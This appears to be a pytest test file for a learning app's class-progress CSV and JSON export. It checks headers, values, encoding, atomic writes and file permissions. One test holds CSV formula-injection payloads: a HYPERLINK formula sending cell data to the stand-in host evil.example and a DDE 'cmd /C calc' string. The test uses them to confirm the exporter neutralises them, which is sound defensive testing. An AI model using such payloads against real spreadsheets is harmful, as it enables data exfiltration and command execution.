"""A class as a CSV file (desktop/store/reads/class_export.py), on the sample class's store."""

from __future__ import annotations

import codecs
import csv
import json
import os
import re
import stat
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from desktop.store.db.profiles import ProfileDirectory
from desktop.store.reads import (
    CLASS_CSV_COLUMNS,
    CLASS_CSV_ENCODING,
    ClassView,
    class_csv,
    class_csv_rows,
    class_json,
    class_view,
    write_class_csv,
)
from tests.samples.sample_class import (
    ADA,
    BO,
    CARMEN,
    DAWIT,
    EMMA,
    ERRORS,
    FARID,
    GUS,
    LESSON_TITLES,
    LINES,
    OPENING,
    TAUGHT,
    TAUGHT_TITLE,
    WRITING,
    sample_class,
)

NOW = datetime(2026, 11, 20, 9, 0, tzinfo=UTC)
TEACHER = "5a000000-0000-4000-8000-000000000001"
ACTIVE = [ADA, BO, CARMEN, DAWIT, EMMA, FARID]  # by name: farid sorts last
LESSONS = [OPENING, LINES, WRITING, ERRORS]


@pytest.fixture
def view(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ClassView]:
    """The sample class's view; its store is not in ``tmp_path``, where the CSVs go."""
    store, _recovery = ProfileDirectory(tmp_path_factory.mktemp("data")).open_learner(TEACHER)
    try:
        sample_class(store, NOW)
        yield class_view(store, TAUGHT, now=NOW)
    finally:
        store.close()


def _read(path: Path) -> list[dict[str, str]]:
    with path.open(encoding=CLASS_CSV_ENCODING, newline="") as handle:
        return list(csv.DictReader(handle))


def _row(rows: list[dict[str, str]], learner: str, lesson: str) -> dict[str, str]:
    return next(r for r in rows if r["learner_id"] == learner and r["lesson_id"] == lesson)


def _renamed(
    view: ClassView, learner_id: str, full_name: str, username: str | None = None
) -> ClassView:
    learners = tuple(
        replace(learner, full_name=full_name, username=username or learner.username)
        if learner.user_id == learner_id
        else learner
        for learner in view.learners
    )
    return replace(view, learners=learners)


def test_the_header_is_language_neutral_snake_case_ids(view: ClassView, tmp_path: Path) -> None:
    path = tmp_path / "class.csv"
    write_class_csv(view, path)
    with path.open(encoding=CLASS_CSV_ENCODING, newline="") as handle:
        header = next(csv.reader(handle))
    assert header == list(CLASS_CSV_COLUMNS)
    assert all(re.fullmatch(r"[a-z][a-z0-9_]*", column) for column in header)
    assert {"learner_name", "lesson_title", "quiz_score", "quiz_passed", "needs_help"} <= set(
        header
    )
    assert len(set(header)) == len(header)


def test_one_row_per_active_learner_and_lesson_in_the_views_order(
    view: ClassView, tmp_path: Path
) -> None:
    path = tmp_path / "class.csv"
    assert write_class_csv(view, path) == len(ACTIVE) * len(LESSONS)
    rows = _read(path)
    assert [(r["learner_id"], r["lesson_id"]) for r in rows] == [
        (learner, lesson) for learner in ACTIVE for lesson in LESSONS
    ]
    assert GUS not in {r["learner_id"] for r in rows}  # left: counted by the view, not listed
    assert [r["lesson_position"] for r in rows[:4]] == ["1", "2", "3", "4"]
    assert {r["course_title"] for r in rows} == {TAUGHT_TITLE}


def test_the_values_are_the_sample_classs(view: ClassView, tmp_path: Path) -> None:
    path = tmp_path / "class.csv"
    write_class_csv(view, path)
    rows = _read(path)
    bo_writing = _row(rows, BO, WRITING)
    assert bo_writing["lesson_title"] == LESSON_TITLES[WRITING]
    assert bo_writing["quiz_kind"] == "assessed"
    assert (bo_writing["quiz_attempts"], bo_writing["quiz_not_counted"]) == ("2", "0")
    assert (bo_writing["quiz_score"], bo_writing["quiz_max_score"]) == ("2", "3")
    assert (bo_writing["quiz_percent"], bo_writing["quiz_passed"]) == ("66.7", "false")
    assert bo_writing["quiz_failed_attempts"] == "2"
    assert bo_writing["lesson_needs_help"] == "failed_quiz"
    assert bo_writing["needs_help"] == "failed_quiz"
    assert _row(rows, BO, OPENING)["lesson_needs_help"] == ""  # the reason names its quiz
    ada = _row(rows, ADA, WRITING)
    assert (ada["lessons_completed"], ada["lessons_total"], ada["points"]) == ("3", "4", "70")
    assert (ada["course_time_spent_seconds"], ada["lesson_time_spent_seconds"]) == ("6600", "2100")
    assert (ada["quiz_percent"], ada["quiz_passed"], ada["lesson_completed"]) == (
        "100",
        "true",
        "true",
    )
    assert ada["enrolled_at"] == (NOW - timedelta(days=20)).strftime("%Y-%m-%dT%H:%M:%SZ")
    carmen = _row(rows, CARMEN, OPENING)
    assert (carmen["needs_help"], carmen["inactive_days"]) == ("inactive", "9")
    assert carmen["lesson_completion_percent"] == "60"
    dawit = _row(rows, DAWIT, OPENING)
    assert (dawit["needs_help"], dawit["inactive_days"], dawit["last_active"]) == (
        "inactive",
        "12",
        "",
    )
    emma = _row(rows, EMMA, ERRORS)
    assert emma["course_completed_at"] == "2026-11-18T09:00:00Z"
    assert emma["needs_help"] == ""
    assert _row(rows, FARID, LINES)["learner_name"] == "farid"  # no full name: the username
    # a lesson without a quiz says nothing about one; a quiz never tried is zero tries
    no_quiz = _row(rows, ADA, LINES)
    assert [no_quiz[c] for c in ("quiz_kind", "quiz_attempts", "quiz_passed")] == ["", "", ""]
    untried = _row(rows, ADA, OPENING)
    assert [untried[c] for c in ("quiz_kind", "quiz_attempts", "quiz_score")] == [
        "practice",
        "0",
        "",
    ]


def test_the_file_is_utf8_with_a_bom_and_rfc4180_line_ends(view: ClassView, tmp_path: Path) -> None:
    path = tmp_path / "class.csv"
    write_class_csv(view, path)
    data = path.read_bytes()
    assert data.startswith(codecs.BOM_UTF8)
    assert data.count(codecs.BOM_UTF8) == 1
    assert "Carmen Díaz".encode() in data
    assert data.count(b"\r\n") == 1 + len(ACTIVE) * len(LESSONS)
    assert b"\n" not in data.replace(b"\r\n", b"")
    assert data[len(codecs.BOM_UTF8) :].decode("utf-8") == class_csv(view)


def test_the_file_reads_back_with_the_csv_module_as_written(
    view: ClassView, tmp_path: Path
) -> None:
    path = tmp_path / "class.csv"
    write_class_csv(view, path)
    with path.open(encoding=CLASS_CSV_ENCODING, newline="") as handle:
        read = [tuple(row) for row in csv.reader(handle)]
    assert read == [CLASS_CSV_COLUMNS, *class_csv_rows(view)]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text(
    view: ClassView, tmp_path: Path, start: str
) -> None:
    hostile = f'{start}HYPERLINK("http://evil.example/?"&A1,"x")'
    view = _renamed(view, ADA, full_name=hostile, username=f"{start}1+1")
    lessons = (replace(view.lessons[0], title=f"{start}cmd|' /C calc'!A0"), *view.lessons[1:])
    view = replace(view, lessons=lessons)
    path = tmp_path / "class.csv"
    write_class_csv(view, path)
    rows = _read(path)
    ada = _row(rows, ADA, OPENING)
    assert ada["learner_name"] == "'" + hostile
    assert ada["learner_username"] == f"'{start}1+1"
    assert ada["lesson_title"] == f"'{start}cmd|' /C calc'!A0"
    assert _row(rows, BO, OPENING)["lesson_title"] == f"'{start}cmd|' /C calc'!A0"
    assert _row(rows, BO, OPENING)["learner_name"] == "Bo Chen"  # harmless text is untouched
    assert not any(value.startswith(start) for row in rows for value in row.values())


def test_a_name_with_a_line_break_comma_and_quotes_stays_one_cell(
    view: ClassView, tmp_path: Path
) -> None:
    name = 'Ann "The Hammer",\nJr.\r\nthe 2nd'
    view = _renamed(view, ADA, full_name=name)
    path = tmp_path / "class.csv"
    write_class_csv(view, path)
    rows = _read(path)
    assert len(rows) == len(ACTIVE) * len(LESSONS)
    assert [r["learner_name"] for r in rows if r["learner_id"] == ADA] == [name] * 4
    assert all(len(r) == len(CLASS_CSV_COLUMNS) and None not in r for r in rows)


def test_a_class_with_no_lessons_here_still_lists_every_learner(
    view: ClassView, tmp_path: Path
) -> None:
    bare = replace(
        view,
        lessons=(),
        learners=tuple(replace(learner, cells=(), help=()) for learner in view.learners),
    )
    path = tmp_path / "class.csv"
    assert write_class_csv(bare, path) == len(ACTIVE)
    rows = _read(path)
    assert [r["learner_id"] for r in rows] == ACTIVE
    assert {r["lesson_id"] for r in rows} == {""}
    assert rows[0]["lessons_total"] == "0"


def test_an_existing_file_is_replaced_whole_and_no_temporary_file_stays(
    view: ClassView, tmp_path: Path
) -> None:
    path = tmp_path / "class.csv"
    path.write_text("old,export\n" * 10_000, encoding="utf-8")  # longer than the new one
    write_class_csv(view, path)
    assert path.read_bytes() == codecs.BOM_UTF8 + class_csv(view).encode("utf-8")
    assert [p.name for p in tmp_path.iterdir()] == ["class.csv"]


def test_a_write_that_fails_halfway_keeps_the_old_file_and_no_temporary_file(
    view: ClassView, tmp_path: Path
) -> None:
    path = tmp_path / "class.csv"
    path.write_bytes(b"the previous export\r\n")
    broken = _renamed(view, FARID, full_name="lone surrogate \ud800")  # UTF-8 cannot encode it
    with pytest.raises(UnicodeEncodeError):
        write_class_csv(broken, path)
    assert path.read_bytes() == b"the previous export\r\n"
    assert [p.name for p in tmp_path.iterdir()] == ["class.csv"]


@pytest.mark.skipif(os.name != "posix", reason="POSIX permission bits")
def test_a_new_file_is_the_owners_only_and_a_replaced_one_keeps_its_mode(
    view: ClassView, tmp_path: Path
) -> None:
    fresh = tmp_path / "fresh.csv"
    write_class_csv(view, fresh)
    assert stat.S_IMODE(fresh.stat().st_mode) == 0o600  # learners' data
    shared = tmp_path / "shared.csv"
    shared.write_text("x", encoding="utf-8")
    shared.chmod(0o644)
    write_class_csv(view, shared)
    assert stat.S_IMODE(shared.stat().st_mode) == 0o644


def test_a_folder_is_refused_before_anything_is_written(view: ClassView, tmp_path: Path) -> None:
    with pytest.raises(IsADirectoryError) as raised:
        write_class_csv(view, tmp_path)
    assert raised.value.filename == str(tmp_path)
    assert list(tmp_path.iterdir()) == []


def test_the_json_form_has_the_views_fields_iso_times_and_codes(view: ClassView) -> None:
    data = json.loads(json.dumps(class_json(view)))
    assert (data["course_id"], data["title"], data["left"]) == (TAUGHT, TAUGHT_TITLE, 1)
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", data["as_of"])
    names = [learner["name"] for learner in data["learners"]]
    assert names == [learner.name for learner in view.learners]
    bo = next(learner for learner in data["learners"] if learner["user_id"] == BO)
    assert bo["help"] == [{"code": "failed_quiz", "lesson_id": WRITING, "days": None}]
    writing = bo["cells"][2]["quiz"]
    assert (writing["score"], writing["max_score"], writing["passed"]) == (2, 3, False)
    assert writing["percent"] == pytest.approx(200 / 3)
    assert data["lessons"][2]["most_missed"]["missed"] == 3
